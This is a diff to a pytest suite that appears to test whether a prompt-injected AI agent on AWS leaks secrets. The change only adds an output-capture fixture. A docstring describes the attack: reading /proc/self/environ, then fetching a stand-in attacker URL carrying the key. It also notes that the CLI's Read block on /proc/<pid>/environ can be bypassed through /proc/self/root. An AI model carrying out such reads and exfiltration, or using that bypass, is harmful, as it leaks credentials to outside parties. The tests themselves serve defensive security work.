@@ -67,7 +67,7 @@ def model_view(log: Path, nonce: str) -> str:
     "agent", [AGENT, "executor"], ids=["an-agent-with-bash-in-the-runner", "the-executor-on-fargate"]
 )
 def test_the_injected_agent_finds_and_sends_no_secret(
-    stack: Provisioned, armed: Armed, real_cli: Path, agent: str
+    stack: Provisioned, armed: Armed, capfd: pytest.CaptureFixture[str], real_cli: Path, agent: str
 ) -> None:
     commands = attack_commands(armed.listener.url, scope_pid=os.getpid(), data_dir=armed.data_dir)
     nonce = f"task {uuid.uuid4().hex}:"
@@ -77,10 +77,12 @@ def test_the_injected_agent_finds_and_sends_no_secret(
     seen = model_view(real_cli, nonce)
     assert len(tool_results(task)) == len(commands) and "PATH=" in seen, (task.status, task.error)
 
-    assert_no_leak({"what the model was shown": seen, **left_behind(task, armed)}, armed.secrets)
+    assert_no_leak({"what the model was shown": seen, **left_behind(task, armed, capfd)}, armed.secrets)
 
 
-def test_the_injected_brain_reads_no_secret_and_fetches_none(stack: Provisioned, armed: Armed, real_cli: Path) -> None:
+def test_the_injected_brain_reads_no_secret_and_fetches_none(
+    stack: Provisioned, armed: Armed, capfd: pytest.CaptureFixture[str], real_cli: Path
+) -> None:
     """`Read /proc/self/environ` then `WebFetch https://attacker/?k=...`: the issue's attack on AWS. The CLI's
     Read refuses /proc/<pid>/environ, but not the same file through /proc/self/root."""
     runner = os.getpid()  # the brain runs in this process's Lambda handler: the runner is its parent
@@ -100,4 +102,4 @@ def test_the_injected_brain_reads_no_secret_and_fetches_none(stack: Provisioned,
     # The attack ran: every read and the fetch got a result, and the model was shown the CLI's own environ.
     assert len(results) == len(paths) + 1 and "PATH=" in seen, (task.status, task.error, results)
 
-    assert_no_leak({"what the model was shown": seen, **left_behind(task, armed)}, armed.secrets)
+    assert_no_leak({"what the model was shown": seen, **left_behind(task, armed, capfd)}, armed.secrets)
